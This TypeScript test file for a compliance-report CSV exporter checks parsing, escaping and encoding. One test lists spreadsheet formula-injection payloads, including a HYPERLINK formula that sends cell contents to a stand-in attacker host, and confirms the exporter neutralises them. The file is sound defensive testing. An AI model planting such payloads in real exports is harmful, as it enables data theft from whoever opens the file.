// The compliance CSV: parses back to the right rows, escapes what needs escaping, and does not let
// a client name or rule become a spreadsheet formula.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { complianceCsvColumns, renderComplianceCsv } from './csv';
import { sampleComplianceReport } from './sample';
import { type ComplianceReport, ReportInputError, type ReportReview } from './types';

/** A strict RFC 4180 reader: quoted fields with "" escapes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let index = 0;
  let quoted = false;
  while (index < text.length) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index += 2;
      } else if (char === '"') {
        quoted = false;
        index += 1;
        const next = text[index];
        if (next !== ',' && next !== '\r' && next !== undefined) {
          throw new Error(`text after a closing quote at ${index}`);
        }
      } else {
        field += char;
        index += 1;
      }
    } else if (char === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${index}`);
      quoted = true;
      index += 1;
    } else if (char === ',') {
      record.push(field);
      field = '';
      index += 1;
    } else if (char === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 2;
    } else if (char === '\n' || char === '\r') {
      throw new Error(`bare line break outside quotes at ${index}`);
    } else {
      field += char;
      index += 1;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}

function asObjects(text: string): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([...complianceCsvColumns]);
  return rows.map((row) => {
    expect(row).toHaveLength(complianceCsvColumns.length);
    return Object.fromEntries(header!.map((column, index) => [column, row[index]!]));
  });
}

function review(overrides: Partial<ReportReview> = {}): ReportReview {
  return {
    source: 'calcom',
    bookingId: 'bk_1',
    date: '2026-03-14 10:00',
    durationMinutes: 60,
    status: 'completed',
    ruleName: 'Annual review event type',
    classificationReason: 'Event type slug "annual-review" matches "annual-*".',
    matchConfirmedBy: 'advisor',
    matchConfirmedAt: '2026-03-15T14:00:00.000Z',
    pushedToLacrm: '2026-03-16T09:00:00.000Z',
    ...overrides,
  };
}

function reportWith(clients: ComplianceReport['clients']): ComplianceReport {
  return { ...sampleComplianceReport({ clients: 0 }), clients };
}

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];

describe('renderComplianceCsv', () => {
  it('writes one row per review and one per client without a review, in the given order', () => {
    const report = sampleComplianceReport({ clients: 20, maxReviews: 4 });
    const rows = asObjects(renderComplianceCsv(report).toString('utf8'));
    const expected = report.clients.flatMap((client) =>
      client.reviews.length === 0
        ? [{ contact_id: client.contactId, reviewed_in_period: 'no', booking_id: '' }]
        : client.reviews.map((r) => ({
            contact_id: client.contactId,
            reviewed_in_period: 'yes',
            booking_id: r.bookingId,
          })),
    );
    expect(
      rows.map(({ contact_id, reviewed_in_period, booking_id }) => ({
        contact_id,
        reviewed_in_period,
        booking_id,
      })),
    ).toEqual(expected);
    expect(report.clients.some((client) => client.reviews.length === 0)).toBe(true);
    expect(report.clients.some((client) => client.reviews.length > 1)).toBe(true);
  });

  it('fills every column from the report', () => {
    const report = reportWith([
      {
        contactId: '4009810940319283474940318530482',
        name: 'Avery Example',
        cadenceMonths: 12,
        status: 'due_soon',
        lastReview: '2026-03-14',
        nextReviewDue: '2027-03-14',
        reviews: [review({ source: 'calendly', ruleName: null, pushedToLacrm: null })],
      },
      {
        contactId: '77',
        name: 'Blake Example',
        cadenceMonths: 6,
        status: 'never_reviewed',
        lastReview: null,
        nextReviewDue: null,
        reviews: [],
      },
    ]);
    const [reviewed, missing] = asObjects(renderComplianceCsv(report).toString('utf8'));
    expect(reviewed).toEqual({
      contact_id: '4009810940319283474940318530482',
      client_name: 'Avery Example',
      cadence_months: '12',
      client_status: 'due_soon',
      last_review: '2026-03-14',
      next_review_due: '2027-03-14',
      reviewed_in_period: 'yes',
      review_source: 'Calendly',
      booking_id: 'bk_1',
      review_date_local: '2026-03-14 10:00',
      time_zone: 'America/New_York',
      duration_minutes: '60',
      booking_status: 'completed',
      rule_name: '',
      classification_reason: 'Event type slug "annual-review" matches "annual-*".',
      match_confirmed_by: 'advisor',
      match_confirmed_at: '2026-03-15T14:00:00.000Z',
      pushed_to_lacrm: '',
    });
    expect(missing).toMatchObject({
      contact_id: '77',
      client_status: 'never_reviewed',
      last_review: '',
      next_review_due: '',
      reviewed_in_period: 'no',
      review_source: '',
      booking_id: '',
      duration_minutes: '',
    });
  });

  it('is UTF-8 without a byte-order mark, with CRLF line ends', () => {
    const csv = renderComplianceCsv(
      reportWith([
        {
          contactId: '1',
          name: 'Zoë Sørensen 李雷',
          cadenceMonths: 12,
          status: 'on_track',
          lastReview: null,
          nextReviewDue: null,
          reviews: [],
        },
      ]),
    );
    expect(csv.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(csv.subarray(0, 10).toString('utf8')).toBe('contact_id');
    const text = csv.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(3);
    expect(asObjects(text)[0]!.client_name).toBe('Zoë Sørensen 李雷');
  });

  it('round-trips commas, quotes and line breaks exactly', () => {
    const awkward = [
      'Doe, Jane',
      'Jane "JJ" Doe',
      'line one\nline two',
      'windows\r\nbreak',
      '"',
      ',',
      '',
      ' padded ',
      "O'Brien",
    ];
    const report = reportWith(
      awkward.map((name, index) => ({
        contactId: String(index + 1),
        name,
        cadenceMonths: 12,
        status: 'on_track' as const,
        lastReview: null,
        nextReviewDue: null,
        reviews: [review({ classificationReason: name, bookingId: `id,${index}"` })],
      })),
    );
    const rows = asObjects(renderComplianceCsv(report).toString('utf8'));
    expect(rows.map((row) => row.client_name)).toEqual(awkward);
    expect(rows.map((row) => row.classification_reason)).toEqual(awkward);
    expect(rows.map((row) => row.booking_id)).toEqual(awkward.map((_, index) => `id,${index}"`));
  });

  it('guards every text cell that a spreadsheet would read as a formula', () => {
    const attacks = [
      '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
      '+1+2',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      '  =1+1',
      '\u00a0@cmd',
    ];
    const report = reportWith(
      attacks.map((attack, index) => ({
        contactId: String(index + 1),
        name: attack,
        cadenceMonths: 12,
        status: 'overdue' as const,
        lastReview: null,
        nextReviewDue: null,
        reviews: [
          review({
            bookingId: attack,
            ruleName: attack,
            classificationReason: attack,
            matchConfirmedBy: attack,
            pushedToLacrm: attack,
            source: attack,
            status: attack,
          }),
        ],
      })),
    );
    const rows = asObjects(renderComplianceCsv(report).toString('utf8'));
    const guarded = [
      'client_name',
      'booking_id',
      'rule_name',
      'classification_reason',
      'match_confirmed_by',
      'pushed_to_lacrm',
      'review_source',
      'booking_status',
    ] as const;
    rows.forEach((row, index) => {
      for (const column of guarded) expect(row[column], column).toBe(`'${attacks[index]}`);
    });
  });

  it('leaves ordinary text and numbers alone', () => {
    const report = reportWith([
      {
        contactId: '12',
        name: 'Mary-Kate Smith-Jones',
        cadenceMonths: 12,
        status: 'on_track',
        lastReview: '2026-01-02',
        nextReviewDue: '2027-01-02',
        reviews: [review({ ruleName: 'Q1 review - annual', durationMinutes: 0 })],
      },
    ]);
    const [row] = asObjects(renderComplianceCsv(report).toString('utf8'));
    expect(row).toMatchObject({
      client_name: 'Mary-Kate Smith-Jones',
      rule_name: 'Q1 review - annual',
      duration_minutes: '0',
      last_review: '2026-01-02',
    });
  });

  it('for any text: the cell reads back as given, or apostrophe-prefixed if it starts a formula', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 40, unit: 'grapheme' }),
          fc
            .tuple(fc.constantFrom(...TRIGGERS, ' =', ' \u00a0+'), fc.string({ maxLength: 20 }))
            .map(([trigger, rest]) => trigger + rest),
        ),
        (text) => {
          const report = reportWith([
            {
              contactId: '1',
              name: text,
              cadenceMonths: 12,
              status: 'on_track',
              lastReview: null,
              nextReviewDue: null,
              reviews: [],
            },
          ]);
          const cell = asObjects(renderComplianceCsv(report).toString('utf8'))[0]!.client_name!;
          const startsFormula = /^[ \u00a0]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(text);
          expect(cell).toBe(startsFormula ? `'${text}` : text);
          expect(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell)).toBe(false);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('refuses a malformed report and names the field', () => {
    const report = sampleComplianceReport({ clients: 4 });
    const broken = structuredClone(report);
    const withReview = broken.clients.findIndex((client) => client.reviews.length > 0);
    broken.clients[withReview]!.reviews[0]!.date = '2026-02-30 10:00';
    expect(() => renderComplianceCsv(broken)).toThrow(ReportInputError);
    expect(() => renderComplianceCsv(broken)).toThrow(
      `report.clients.${withReview}.reviews.0.date: is not a real date and time`,
    );
    expect(() => renderComplianceCsv({ ...report, periodFrom: '2027-01-01' })).toThrow(
      /periodTo: periodFrom is after periodTo/,
    );
    expect(() => renderComplianceCsv({ ...report, timeZone: 'Mars/Olympus' })).toThrow(
      /timeZone: is not a known IANA time zone/,
    );
  });
});
